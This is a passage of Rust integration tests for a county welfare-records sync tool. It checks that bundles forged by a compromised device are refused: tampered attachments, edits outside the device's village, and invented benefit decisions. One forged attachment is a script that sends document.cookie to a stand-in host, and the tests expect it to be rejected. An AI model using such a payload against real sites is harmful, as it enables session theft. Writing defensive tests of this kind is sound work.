                    "-m",
                    p(&out.join("manifest.json")),
                ])
                .output()
                .expect("minisign");
            assert!(
                ok.status.success(),
                "minisign: {}",
                String::from_utf8_lossy(&ok.stderr)
            );
            let mut changed = std::fs::read(out.join("manifest.json")).expect("read");
            changed[10] ^= 1;
            std::fs::write(out.join("manifest.json"), changed).expect("write");
            let bad = Command::new("minisign")
                .args([
                    "-V",
                    "-q",
                    "-p",
                    p(&pubkey),
                    "-m",
                    p(&out.join("manifest.json")),
                ])
                .output()
                .expect("minisign");
            assert!(
                !bad.status.success(),
                "minisign accepted a changed manifest"
            );
        }
    }
    match Command::new("age").arg("--version").output() {
        Err(_) => eprintln!("notice: age not installed; skipping its check"),
        Ok(_) => {
            // The county's identity file is sealed by its store; unseal it
            // through the library, as bangfu itself does, for age to read.
            let keys = keys_of(&d.join("county.sqlite"), "county");
            let identity = d.join("county-identity.txt");
            {
                use age::secrecy::ExposeSecret;
                std::fs::write(&identity, keys.age.to_string().expose_secret()).expect("write");
            }
            let plain = Command::new("age")
                .args(["-d", "-i", p(&identity), p(&out.join("payload.age"))])
                .output()
                .expect("age");
            assert!(
                plain.status.success(),
                "age: {}",
                String::from_utf8_lossy(&plain.stderr)
            );
            let mut text = String::new();
            use std::io::Read;
            flate2::read::GzDecoder::new(&plain.stdout[..])
                .read_to_string(&mut text)
                .expect("gunzip");
            assert!(
                text.lines().count() >= 2 && text.contains("\"table\":\"households\""),
                "{text}"
            );
        }
    }
}

// ---------------------------------------------------------------------------
// Attachments: their bytes travel once per content, checked against their hash
// ---------------------------------------------------------------------------

fn attach(db: &Path, household: &str, file: &Path, caption: &str) -> Run {
    run(
        db,
        &[
            "attach",
            "--household",
            household,
            p(file),
            "--kind",
            "house_photo",
            "--caption",
            caption,
        ],
    )
}

/// SHA-256 of each file `attachments export` writes for `household`, sorted.
fn exported_attachment_hashes(db: &Path, household: &str, out: &Path) -> Vec<String> {
    run(
        db,
        &[
            "attachments",
            "export",
            "--household",
            household,
            "--out",
            p(out),
        ],
    )
    .ok();
    let mut hashes: Vec<String> = std::fs::read_dir(out)
        .expect("read_dir")
        .map(|e| sha256_file(&e.expect("entry").path()))
        .collect();
    hashes.sort();
    hashes
}

/// The manifest as `tar xf` gives it (what `minisign -V` checks), or read
/// from the first member directly when there is no `tar`.
fn manifest_via_tar(bundle: &Path, dir: &Path) -> Value {
    std::fs::create_dir_all(dir).expect("mkdir");
    match Command::new("tar")
        .arg("xf")
        .arg(bundle)
        .current_dir(dir)
        .status()
    {
        Ok(status) if status.success() => serde_json::from_slice(
            &std::fs::read(dir.join("manifest.json")).expect("manifest.json"),
        )
        .expect("manifest json"),
        _ => manifest_of(bundle),
    }
}

/// A bundle's manifest and its payload decrypted with the county's key and gunzipped.
fn open_bundle(
    bundle: &Path,
    county: &bangfu::sync::identity::KeySet,
) -> (bangfu::sync::wire::BundleManifest, Vec<u8>) {
    use bangfu::sync::wire;
    let mut opened = bangfu::sync::sealed::open(
        bundle,
        wire::BUNDLE_FORMAT,
        "数据包",
        Some(wire::BUNDLE_PAYLOAD),
    )
    .expect("open bundle");
    let m: wire::BundleManifest = opened.manifest("数据包").expect("manifest");
    let encrypted = opened.payload_bytes(&m.payload, 1 << 30).expect("payload");
    let gz = age::decrypt(&county.age, &encrypted).expect("decrypt");
    let mut plain = Vec::new();
    use std::io::Read;
    flate2::read::GzDecoder::new(&gz[..])
        .read_to_end(&mut plain)
        .expect("gunzip");
    (m, plain)
}

/// What a compromised but registered device could send: `plain` as the
/// payload of `m`, encrypted to the county and signed with the device key.
fn reseal(
    out: &Path,
    mut m: bangfu::sync::wire::BundleManifest,
    plain: &[u8],
    device: &bangfu::sync::identity::KeySet,
    county: &bangfu::sync::identity::KeySet,
) {
    use bangfu::sync::wire;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(plain).expect("gzip");
    let gz = gz.finish().expect("gzip");
    let payload = age::encrypt(&county.age.to_public(), &gz).expect("encrypt");
    m.plain_bytes = plain.len() as u64;
    m.payload = bangfu::sync::wire::PayloadInfo::of(wire::BUNDLE_PAYLOAD, &payload);
    let mut manifest = serde_json::to_vec_pretty(&m).expect("manifest");
    manifest.push(b'\n');
    bangfu::sync::sealed::write(
        out,
        &manifest,
        &device.signing,
        "bangfu.bundle.v1 forged",
        Some((wire::BUNDLE_PAYLOAD, &payload)),
    )
    .expect("write bundle");
}

/// Each payload line as JSON.
fn payload_values(plain: &[u8]) -> Vec<Value> {
    plain
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).expect("line json"))
        .collect()
}

fn join_lines(values: &[Value]) -> Vec<u8> {
    let mut out = Vec::new();
    for v in values {
        serde_json::to_writer(&mut out, v).expect("json");
        out.push(b'\n');
    }
    out
}

/// A county and device `a` holding two households, TXZ-001 and TXZ-002.
fn two_households(d: &Path) -> (County, PathBuf) {
    let cty = county(d, "county", "341024");
    let a = device(d, "a", &cty);
    import_households(
        &a,
        &d.join("h.json"),
        &[
            household("TXZ-001", ID1, "1", "一号", "1组"),
            household("TXZ-002", ID2, "2", "二号", "2组"),
        ],
    );
    (cty, a)
}

#[test]
fn attachments_travel_once_and_the_county_checks_their_bytes() {
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD;
    let dir = tempdir();
    let d = dir.path();
    let (cty, a) = two_households(d);
    // The households alone, for the size the photos add.
    let plain_bundle = d.join("households-only.bangfu");
    export(&a, &plain_bundle).ok();
    let m0 = manifest_of(&plain_bundle);
    assert!(
        m0.get("blob_count").is_none() && m0.get("blob_bytes").is_none(),
        "{m0}"
    );

    // One photo, attached to two households: one content.
    let jpeg = d.join("房屋正面.jpg");
    photo(&jpeg, 1200, 900, 0);
    attach(&a, "TXZ-001", &jpeg, "房屋正面").ok();
    let r = attach(&a, "TXZ-002", &jpeg, "同一张照片").ok();
    assert!(r.stdout.contains("内容已存在"), "{}", r.stdout);
    assert_eq!(query_i64(&a, "SELECT COUNT(*) FROM blobs"), 1);
    let stored = query_i64(&a, "SELECT size FROM blobs");

    let b1 = d.join("b1.bangfu");
    let r = export(&a, &b1).ok();
    assert!(r.stdout.contains("已导出第 1 号数据包"), "{}", r.stdout);
    let m1 = manifest_via_tar(&b1, &d.join("x1"));
    assert_eq!(m1["blob_count"], 1, "{m1}");
    assert_eq!(m1["blob_bytes"].as_i64(), Some(stored), "{m1}");
    assert_eq!(
        m1["entry_count"].as_u64(),
        Some(m0["entry_count"].as_u64().expect("count") + 2),
        "entries only: the households and two attachment rows"
    );
    let growth = std::fs::metadata(&b1).expect("b1").len() as i64
        - std::fs::metadata(&plain_bundle).expect("b0").len() as i64;
    eprintln!(
        "one {stored}-byte photo, two attachment rows: bundle grows by {growth} bytes ({:.2}× the photo)",
        growth as f64 / stored as f64
    );
    // base64 makes 4 characters of 3 bytes; gzip takes most of that back.
    assert!(
        growth > stored / 2 && growth < stored * 5 / 4,
        "{growth} for {stored}"
    );

    // The payload: the blob line just before the first row naming it; the bytes are the photo.
    let county_keys = keys_of(&cty.db, "county");
    let (_, plain) = open_bundle(&b1, &county_keys);
    let lines = payload_values(&plain);
    let blob_at = lines
        .iter()
        .position(|l| l.get("blob").is_some())
        .expect("a blob line");
    assert_eq!(
        lines.iter().filter(|l| l.get("blob").is_some()).count(),
        1,
        "one blob line for one content"
    );
    assert_eq!(lines[blob_at + 1]["table"], "attachments");
    assert_eq!(lines[blob_at]["mime"], "image/jpeg");
    let bytes = b64
        .decode(lines[blob_at]["data"].as_str().expect("data"))
        .expect("base64");
    assert_eq!(
        lines[blob_at]["blob"].as_str(),
        Some(sha256_hex(&bytes).as_str())
    );

    // The county: one blob with those bytes, both rows, its log verifying.
    let r = import(&cty, &[&b1]).ok();
    assert!(r.stdout.contains("✓"), "{}", r.stdout);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 1);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM attachments"), 2);
    for code in ["TXZ-001", "TXZ-002"] {
        let on_device = exported_attachment_hashes(&a, code, &d.join(format!("dev-{code}")));
        let at_county = exported_attachment_hashes(&cty.db, code, &d.join(format!("cty-{code}")));
        assert_eq!(on_device.len(), 1);
        assert_eq!(
            on_device, at_county,
            "{code}: the county has the device's bytes"
        );
    }
    run(&cty.db, &["log", "verify"]).ok();
    run(&a, &["bundle", "ack", p(&ack_of(&b1))]).ok();

    // After the ack, the same photo on a new row travels as a row only.
    attach(&a, "TXZ-001", &jpeg, "再拍一次，内容相同").ok();
    let b2 = d.join("b2.bangfu");
    export(&a, &b2).ok();
    let m2 = manifest_via_tar(&b2, &d.join("x2"));
    assert!(m2.get("blob_count").is_none(), "no blob line: {m2}");
    assert_eq!(m2["entry_count"], 1);
    let (_, plain2) = open_bundle(&b2, &county_keys);
    assert!(payload_values(&plain2)
        .iter()
        .all(|l| l.get("blob").is_none()));
    assert!(
        std::fs::metadata(&b2).expect("b2").len() < 8 * 1024,
        "a row naming a photo the county has is small"
    );
    import(&cty, &[&b2]).ok();
    run(&a, &["bundle", "ack", p(&ack_of(&b2))]).ok();
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 1);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM attachments"), 3);
    run(&cty.db, &["log", "verify"]).ok();

    // A new photo: bundle 3. Then what a compromised device could send instead.
    let jpeg2 = d.join("厨房.jpg");
    photo(&jpeg2, 1200, 900, 90);
    attach(&a, "TXZ-002", &jpeg2, "厨房").ok();
    let b3 = d.join("b3.bangfu");
    export(&a, &b3).ok();
    let device_keys = keys_of(&a, "device");
    let (m3, plain3) = open_bundle(&b3, &county_keys);
    assert_eq!(m3.blob_count, 1);
    let lines3 = payload_values(&plain3);
    let blob_at = lines3
        .iter()
        .position(|l| l.get("blob").is_some())
        .expect("a blob line");
    let county_state = |db: &Path| {
        let mut s = snapshot(db);
        s.push(query_i64(db, "SELECT COUNT(*) FROM blobs").to_string());
        s.push(query_i64(db, "SELECT COUNT(*) FROM attachments").to_string());
        s
    };
    let before = county_state(&cty.db);

    // Bytes that do not match their hash (same length, one byte changed).
    let mut tampered = lines3.clone();
    let mut bytes = b64
        .decode(tampered[blob_at]["data"].as_str().expect("data"))
        .expect("base64");
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x01;
    tampered[blob_at]["data"] = Value::String(b64.encode(&bytes));
    let forged = d.join("forged-bytes.bangfu");
    reseal(
        &forged,
        m3.clone(),
        &join_lines(&tampered),
        &device_keys,
        &county_keys,
    );
    import(&cty, &[&forged]).fails(2, &format!("第 {} 行附件内容", blob_at + 1));
    let r = import(&cty, &[&forged]);
    assert!(
        r.stdout.contains("与其哈希不符") && r.stdout.contains("未做任何更改"),
        "{}",
        r.stdout
    );
    assert_eq!(county_state(&cty.db), before);

    // Not base64 at all.
    let mut garbled = lines3.clone();
    garbled[blob_at]["data"] = Value::String("不是 base64".into());
    let forged = d.join("forged-base64.bangfu");
    reseal(
        &forged,
        m3.clone(),
        &join_lines(&garbled),
        &device_keys,
        &county_keys,
    );
    import(&cty, &[&forged]).fails(2, "base64");
    assert_eq!(county_state(&cty.db), before);

    // The blob line left out (and the manifest made to agree): the row's content is missing.
    let mut without = lines3.clone();
    without.remove(blob_at);
    let mut m = m3.clone();
    m.blob_count = 0;
    m.blob_bytes = 0;
    let forged = d.join("forged-missing.bangfu");
    reseal(
        &forged,
        m,
        &join_lines(&without),
        &device_keys,
        &county_keys,
    );
    let r = import(&cty, &[&forged]).fails(2, "的内容缺失");
    assert!(
        r.stdout.contains("附件") && !r.stdout.contains("FOREIGN KEY"),
        "{}",
        r.stdout
    );
    assert_eq!(county_state(&cty.db), before);

    // A blob line the manifest does not count.
    let forged = d.join("forged-count.bangfu");
    let mut m = m3.clone();
    m.blob_count = 0;
    m.blob_bytes = 0;
    reseal(&forged, m, &plain3, &device_keys, &county_keys);
    import(&cty, &[&forged]).fails(2, "超出清单记载的 0 个");
    assert_eq!(county_state(&cty.db), before);

    // A web page labelled as a photo (the county would serve it to a browser).
    let mut html = lines3.clone();
    let page = b"<html><script>fetch('http://x/?'+document.cookie)</script></html>".to_vec();
    let page_sha = sha256_hex(&page);
    // Refused on arrival, before any row could name it.
    html[blob_at] = json!({"blob": page_sha, "mime": "image/jpeg", "data": b64.encode(&page)});
    let mut m = m3.clone();
    m.blob_bytes = page.len() as u64;
    let forged = d.join("forged-html.bangfu");
    reseal(&forged, m, &join_lines(&html), &device_keys, &county_keys);
    let r = import(&cty, &[&forged]).fails(2, "不合格");
    assert!(r.stdout.contains("文本文件"), "{}", r.stdout);
    assert_eq!(county_state(&cty.db), before);

    // A blob no row of the bundle names.
    let mut extra = lines3.clone();
    let stray_file = d.join("stray.jpg");
    photo(&stray_file, 1200, 900, 7);
    let stray = std::fs::read(&stray_file).expect("stray photo");
    let stray = stray.as_slice();
    let stray_sha = sha256_hex(stray);
    extra.insert(
        0,
        json!({"blob": stray_sha, "mime": "image/jpeg", "data": b64.encode(stray)}),
    );
    let mut m = m3.clone();
    m.blob_count += 1;
    m.blob_bytes += stray.len() as u64;
    let forged = d.join("forged-stray.bangfu");
    reseal(&forged, m, &join_lines(&extra), &device_keys, &county_keys);
    import(&cty, &[&forged]).fails(2, "没有随后的附件记录引用它");
    assert_eq!(county_state(&cty.db), before);

    // The real bundle 3 still imports.
    import(&cty, &[&b3]).ok();
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 2);
    run(&cty.db, &["log", "verify"]).ok();
    run(&a, &["bundle", "ack", p(&ack_of(&b3))]).ok();

    // Bytes changed behind the program's back on the device: found at export,
    // before anything leaves the laptop.
    let jpeg3 = d.join("院子.jpg");
    photo(&jpeg3, 1200, 900, 200);
    attach(&a, "TXZ-001", &jpeg3, "院子").ok();
    {
        let conn = sql(&a);
        let sha: String = conn
            .query_row(
                "SELECT blob_sha256 FROM attachments WHERE caption = '院子'",
                [],
                |r| r.get(0),
            )
            .expect("row");
        conn.execute(
            "UPDATE blobs SET bytes = CAST('换掉的内容' AS BLOB) WHERE sha256 = ?1",
            [&sha],
        )
        .expect("tamper");
    }
    let b4 = d.join("b4.bangfu");
    export(&a, &b4).fails(1, "与其哈希不符");
    assert!(!b4.exists());
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 2);
}

#[test]
fn a_large_export_is_split_into_parts_the_county_takes_in_order() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a) = two_households(d);
    for seed in 1..=3 {
        let jpeg = d.join(format!("照片{seed}.jpg"));
        photo(&jpeg, 1200, 900, seed);
        attach(&a, "TXZ-001", &jpeg, &format!("照片{seed}")).ok();
    }

    // Parts of 64 KiB: the households fit in one; each photo (larger than
    // that) takes a part of its own, with the entry that names it.
    let out = d.join("村.bangfu");
    let mut store = open_store(&a);
    let exported = bangfu::sync::device::export_in_parts(&mut store, &a, &out, 64 * 1024)
        .unwrap_or_else(|e| panic!("export: {e}"));
    drop(store);
    let bangfu::sync::device::Exported::Written { parts, replaces } = exported else {
        panic!("nothing exported");
    };
    assert!(replaces.is_none());
    assert_eq!(parts.len(), 4, "households, then one part per photo");
    assert_eq!(parts[0].0, out);
    assert_eq!(parts[1].0, d.join("村-2.bangfu"));
    let mut prev_hash = None;
    for (i, (path, m)) in parts.iter().enumerate() {
        assert_eq!(m.sequence, i as u64 + 1);
        assert_eq!(m.blob_count, u64::from(i > 0), "part {}", i + 1);
        assert_eq!(manifest_of(path)["sequence"], i + 1);
        if let Some(h) = prev_hash {
            assert_eq!(
                m.first_prev_hash,
                h,
                "part {} follows the one before",
                i + 1
            );
        }
        prev_hash = Some(m.last_hash.clone());
    }

    // A later part alone is refused, naming the one missing.
    import(&cty, &[&parts[2].0]).fails(2, "缺少第 1 号");
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 0);
    // All parts, given in any order, go in by number.
    let files: Vec<&Path> = parts.iter().rev().map(|(p, _)| p.as_path()).collect();
    import(&cty, &files).ok();
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 2);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 3);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM attachments"), 3);

    // The last part's acknowledgement covers them all.
    run(&a, &["bundle", "ack", p(&ack_of(&parts[3].0))]).ok();
    let r = export(&a, &d.join("again.bangfu")).ok();
    assert!(r.stdout.contains("没有新的变更"), "{}", r.stdout);
}

// ---------------------------------------------------------------------------
// What a registered device may write
// ---------------------------------------------------------------------------

const ID3: &str = "341024199001010018";

fn household_of(code: &str, village: &str, region: &str, id_number: &str) -> Value {
    let mut h = household(code, id_number, "13700000000", "保婴村一号", "1组");
    h["village"] = json!(village);
    h["region_code"] = json!(region);
    h
}

/// A forged entry: table, record id, op, row, base, time.
type Forged<'a> = (
    &'a str,
    &'a str,
    &'a str,
    Option<&'a Value>,
    Option<&'a Value>,
    &'a str,
);

/// Signs bundles a compromised but registered device could send: forged
/// entries, correctly hashed and chained where the device's next genuine
/// bundle starts, encrypted to the county and signed with the device key.
struct Forger {
    manifest: bangfu::sync::wire::BundleManifest,
    device: bangfu::sync::identity::KeySet,
    county: bangfu::sync::identity::KeySet,
}

impl Forger {
    /// From the device's genuine next bundle at `genuine` (exported, not imported).
    fn new(dev: &Path, cty: &County, genuine: &Path) -> Forger {
        let county = keys_of(&cty.db, "county");
        let (manifest, _) = open_bundle(genuine, &county);
        Forger {
            manifest,
            device: keys_of(dev, "device"),
            county,
        }
    }

    /// A bundle at `out` of `entries`: (table, record id, op, row, base, time).
    fn bundle(&self, out: &Path, entries: &[Forged]) {
        let mut prev = self.manifest.first_prev_hash.clone();
        let mut seq = self.manifest.first_seq;
        let mut lines = Vec::new();
        for (table, record_id, op, row, base, at) in entries {
            let mut e = bangfu::store::changelog::Entry {
                seq,
                entry_id: uuid::Uuid::now_v7().to_string(),
                table: table.to_string(),
                record_id: record_id.to_string(),
                op: op.to_string(),
                row_json: row.map(Value::to_string),
                author: "forged/保婴村".into(),
                at: at.to_string(),
                prev_hash: prev.clone(),
                hash: String::new(),
            };
            e.hash = e.compute_hash();
            let mut line = serde_json::to_value(&e).expect("entry json");
            if let Some(b) = base {
                line["base"] = Value::String(b.to_string());
            }
            prev = e.hash.clone();
            seq += 1;
            lines.push(line);
        }
        let mut m = self.manifest.clone();
        m.first_hash = lines[0]["hash"].as_str().expect("hash").to_owned();
        m.last_hash = prev;
        m.last_seq = seq - 1;
        m.entry_count = lines.len() as u64;
        m.blob_count = 0;
        m.blob_bytes = 0;
        reseal(out, m, &join_lines(&lines), &self.device, &self.county);
    }
}

/// The county's current row of `table` where `filter`, as a device's change log writes it.
fn county_row(db: &Path, table: &str, filter: &str) -> Value {
    let text = query_text(
        db,
        &format!(
            "SELECT row_json FROM change_log WHERE tbl = '{table}' AND record_id =
               (SELECT id FROM {table} WHERE {filter}) ORDER BY seq DESC LIMIT 1"
        ),
    );
    serde_json::from_str(&text).expect("row json")
}

const NOW: &str = "2026-11-30T08:00:00.000Z";

#[test]
fn a_device_writes_only_households_of_its_own_village_and_never_decisions() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a) = two_households(d);
    sync(&a, &cty, &d.join("a1.bangfu"));
    // The laptop of 保婴村, with one household of its own.
    let b = device_in(d, "b", "保婴村", &cty);
    let own = |phone: &str| {
        let mut h = household_of("BY-001", "保婴村", "341024", ID3);
        h["phone"] = json!(phone);
        h
    };
    import_households(&b, &d.join("b0.json"), &[own("13700000001")]);
    sync(&b, &cty, &d.join("b1.bangfu"));
    // Its next genuine bundle (a new phone number), exported, not yet imported.
    import_households(&b, &d.join("b2.json"), &[own("13700000002")]);
    let genuine = d.join("b2.bangfu");
    export(&b, &genuine).ok();
    let forger = Forger::new(&b, &cty, &genuine);

    let state = |db: &Path| {
        let mut s = snapshot(db);
        s.push(query_i64(db, "SELECT COUNT(*) FROM decisions").to_string());
        s
    };
    let before = state(&cty.db);
    let refused = |name: &str, entries: &[Forged], needles: &[&str]| {
        let f = d.join(format!("forged-{name}.bangfu"));
        forger.bundle(&f, entries);
        let r = import(&cty, &[&f]).fails(2, "未做任何更改");
        for needle in needles {
            assert!(
                r.stdout.contains(needle),
                "{name}: “{needle}” in\n{}",
                r.stdout
            );
        }
        assert_eq!(state(&cty.db), before, "{name}: the county is unchanged");
        run(&cty.db, &["log", "verify"]).ok();
    };

    // Another village's household overwritten, stating the county's value as the base.
    let txz1 = county_row(&cty.db, "households", "code = 'TXZ-001'");
    let txz1_id = txz1["id"].as_str().expect("id").to_owned();
    let mut changed = txz1.clone();
    changed["phone"] = json!("13800000000");
    refused(
        "overwrite",
        &[(
            "households",
            &txz1_id,
            "update",
            Some(&changed),
            Some(&txz1),
            NOW,
        )],
        &["第 1 条记录", "TXZ-001", "田心寨村", "保婴村", "只能改本村"],
    );
    // Another village's member deleted.
    let member = county_row(
        &cty.db,
        "members",
        "household_id = (SELECT id FROM households WHERE code = 'TXZ-002')",
    );
    let member_id = member["id"].as_str().expect("id").to_owned();
    refused(
        "delete",
        &[("members", &member_id, "delete", None, Some(&member), NOW)],
        &["TXZ-002", "只能改本村"],
    );
    // Another village's household deleted outright.
    refused(
        "delete-household",
        &[("households", &txz1_id, "delete", None, Some(&txz1), NOW)],
        &["TXZ-001"],
    );
    // A household inserted in another county's region.
    let by1 = county_row(&cty.db, "households", "code = 'BY-001'");
    let by1_id = by1["id"].as_str().expect("id").to_owned();
    let mut foreign = by1.clone();
    let foreign_id = uuid::Uuid::now_v7().to_string();
    foreign["id"] = json!(foreign_id);
    foreign["code"] = json!("BY-099");
    foreign["region_code"] = json!("110101");
    refused(
        "region",
        &[(
            "households",
            &foreign_id,
            "insert",
            Some(&foreign),
            None,
            NOW,
        )],
        &["110101", "只能写本村"],
    );
    // A member put into another village's household.
    let mut stray = member.clone();
    let stray_id = uuid::Uuid::now_v7().to_string();
    stray["id"] = json!(stray_id);
    stray["household_id"] = json!(txz1_id);
    refused(
        "member",
        &[("members", &stray_id, "insert", Some(&stray), None, NOW)],
        &["TXZ-001"],
    );
    // Its own household moved to another village.
    let mut moved = by1.clone();
    moved["village"] = json!("田心寨村");
    refused(
        "move",
        &[(
            "households",
            &by1_id,
            "update",
            Some(&moved),
            Some(&by1),
            NOW,
        )],
        &["迁村须由县里办理"],
    );
    // A decision of 99,999.00 a month for its own household.
    let decision_id = uuid::Uuid::now_v7().to_string();
    let decision = json!({
        "id": decision_id, "household_id": by1_id, "as_of": "2026-11-30",
        "policy_version": "x", "status": "dibao", "total_monthly": "99999.00",
        "input_hash": "x", "result_json": "{}"
    });
    refused(
        "decision",
        &[(
            "decisions",
            &decision_id,
            "insert",
            Some(&decision),
            None,
            NOW,
        )],
        &["资格评估结果", "县里自行"],
    );
    // Data the county could not use: an unknown hukou, a malformed JSON column.
    let mut martian = by1.clone();
    martian["hukou"] = json!("martian");
    refused(
        "hukou",
        &[(
            "households",
            &by1_id,
            "update",
            Some(&martian),
            Some(&by1),
            NOW,
        )],
        &["BY-001", "不合格"],
    );
    let by1_member = county_row(&cty.db, "members", &format!("household_id = '{by1_id}'"));
    let mut malformed = by1_member.clone();
    malformed["incomes"] = json!("{not json");
    let by1_member_id = by1_member["id"].as_str().expect("id").to_owned();
    refused(
        "json-column",
        &[(
            "members",
            &by1_member_id,
            "update",
            Some(&malformed),
            Some(&by1_member),
            NOW,
        )],
        &["incomes", "不合格"],
    );
    // Its own household, changed properly by a forger, is accepted: the
    // rules refuse what the device may not do, not forged files as such.
    let mut fine = by1.clone();
    fine["address"] = json!("保婴村二号");
    let ok = d.join("forged-own.bangfu");
    forger.bundle(
        &ok,
        &[(
            "households",
            &by1_id,
            "update",
            Some(&fine),
            Some(&by1),
            NOW,
        )],
    );
    import(&cty, &[&ok]).ok();
    assert_eq!(
        query_text(
            &cty.db,
            "SELECT address FROM households WHERE code = 'BY-001'"
        ),
        "保婴村二号"
    );
    assert_eq!(
        query_text(
            &cty.db,
            "SELECT phone FROM households WHERE code = 'TXZ-001'"
        ),
        "1"
    );
    run(&cty.db, &["log", "verify"]).ok();
}

#[test]
fn decisions_saved_on_a_device_stay_on_it_and_its_bundles_still_chain() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a) = two_households(d);
    run(&a, &["eval", "--save", "--as-of", "2026-11-30"]).ok();
    assert!(query_i64(&a, "SELECT COUNT(*) FROM decisions") > 0);
    let b1 = d.join("a1.bangfu");
    sync(&a, &cty, &b1);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 2);
    // The decisions travel as their place in the chain only.
    let (_, plain) = open_bundle(&b1, &keys_of(&cty.db, "county"));
    let lines = payload_values(&plain);
    let withheld: Vec<&Value> = lines.iter().filter(|l| l["table"] == "decisions").collect();
    assert!(!withheld.is_empty());
    assert!(withheld
        .iter()
        .all(|l| l["withheld"] == true && l.get("row_json").is_none_or(Value::is_null)));
    assert!(!String::from_utf8_lossy(&plain).contains("total_monthly"));
    // The next bundle follows on from a withheld entry.
    import_households(
        &a,
        &d.join("a2.json"),
        &[
            household("TXZ-001", ID1, "13911111111", "一号", "1组"),
            household("TXZ-002", ID2, "2", "二号", "2组"),
        ],
    );
    run(&a, &["eval", "--save", "--as-of", "2026-12-01"]).ok();
    sync(&a, &cty, &d.join("a2.bangfu"));
    assert_eq!(
        query_text(
            &cty.db,
            "SELECT phone FROM households WHERE code = 'TXZ-001'"
        ),
        "13911111111"
    );
    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
    run(&cty.db, &["log", "verify"]).ok();
}

#[test]
fn a_device_clock_years_ahead_does_not_win_conflicts() {
    let dir = tempdir();
    let d = dir.path();
    let (cty, a) = two_households(d);
    sync(&a, &cty, &d.join("a1.bangfu"));
    // Device B: a copy of A's store with its own identity, same village.
    let b = copied_device(d, &a, "b", &cty);

    // A's clock says 9999: its change of the group arrives first.
    import_households(
        &a,
        &d.join("a2.json"),
        &[
            household("TXZ-001", ID1, "1", "一号", "甲组"),
            household("TXZ-002", ID2, "2", "二号", "2组"),
        ],
    );
    let genuine = d.join("a2.bangfu");
    export(&a, &genuine).ok();
    let forger = Forger::new(&a, &cty, &genuine);
    let held = county_row(&cty.db, "households", "code = 'TXZ-001'");
    let id = held["id"].as_str().expect("id").to_owned();
    let mut ahead = held.clone();
    ahead["grp"] = json!("甲组");
    let future = d.join("a2-future.bangfu");
    forger.bundle(
        &future,
        &[(
            "households",
            &id,
            "update",
            Some(&ahead),
            Some(&held),
            "9999-12-31T00:00:00.000Z",
        )],
    );
    import(&cty, &[&future]).ok();

    // B changes the same field later, with a right clock: it arrives later and holds.
    import_households(
        &b,
        &d.join("b2.json"),
        &[
            household("TXZ-001", ID1, "1", "一号", "乙组"),
            household("TXZ-002", ID2, "2", "二号", "2组"),
        ],
    );
    let b2 = d.join("b2.bangfu");
    export(&b, &b2).ok();
    let r = import(&cty, &[&b2]).ok();
    assert!(r.stdout.contains("新冲突 1 处"), "{}", r.stdout);
    assert_eq!(
        query_text(&cty.db, "SELECT grp FROM households WHERE code = 'TXZ-001'"),
        "乙组"
    );
    let json: Value =
        serde_json::from_str(&run(&cty.db, &["county", "conflicts", "--json"]).ok().stdout)
            .expect("json");
    let c = &json[0];
    assert_eq!(c["winner"], "incoming");
    assert_eq!(c["held"]["value"], "甲组");
    let note = c["clock_note"].as_str().expect("a clock note");
    assert!(
        note.contains("9999-12-31") && note.contains("时钟不准"),
        "{note}"
    );
    assert!(
        c["rule"].as_str().expect("rule").contains("送到县里"),
        "{c}"
    );
    let list = run(&cty.db, &["county", "conflicts"]).ok().stdout;
    assert!(list.contains("时钟不准"), "{list}");
}

#[test]
fn a_look_alike_county_key_replaces_the_real_one_only_when_both_ids_are_named() {
    let dir = tempdir();
    let d = dir.path();
    let cty = county(d, "county", "341024");
    let a = device(d, "a", &cty);
    // Anyone can make a key file that names the same county.
    let elsewhere = d.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).expect("dir");
    let fake = county(&elsewhere, "county", "341024");
    let (real_id, fake_id) = (
        manifest_of(&cty.key_file)["key_id"]
            .as_str()
            .expect("id")
            .to_owned(),
        manifest_of(&fake.key_file)["key_id"]
            .as_str()
            .expect("id")
            .to_owned(),
    );
    assert_ne!(real_id, fake_id);
    let configured = || query_text(&a, "SELECT value FROM settings WHERE key = 'sync.county'");
    let before = configured();
    let r = run(&a, &["device", "import-county-key", p(&fake.key_file)]).input_error();
    assert!(
        r.stderr.contains(&real_id) && r.stderr.contains(&fake_id) && r.stderr.contains("核实"),
        "{}",
        r.stderr
    );
    for wrong in [
        fake_id.clone(),
        format!("{fake_id}:{real_id}"),
        format!("{real_id}:XXXX"),
    ] {
        run(
            &a,
            &[
                "device",
                "import-county-key",
                p(&fake.key_file),
                "--replace",
                &wrong,
            ],
        )
        .input_error();
        assert_eq!(configured(), before, "{wrong}");
    }
    // Bundles still go to the real county.
    import_households(
        &a,
        &d.join("h.json"),
        &[household("TXZ-001", ID1, "1", "一号", "1组")],
    );
    let b1 = d.join("b1.bangfu");
    export(&a, &b1).ok();
    assert_eq!(manifest_of(&b1)["county_key_id"], real_id.as_str());
    // The deliberate reset, naming both keys, replaces it.
    let both = format!("{real_id}:{fake_id}");
    run(
        &a,
        &[
            "device",
            "import-county-key",
            p(&fake.key_file),
            "--replace",
            &both,
        ],
    )
    .ok();
    assert_ne!(configured(), before);
}

#[test]
fn a_device_decryption_key_swapped_for_another_identity_is_refused() {
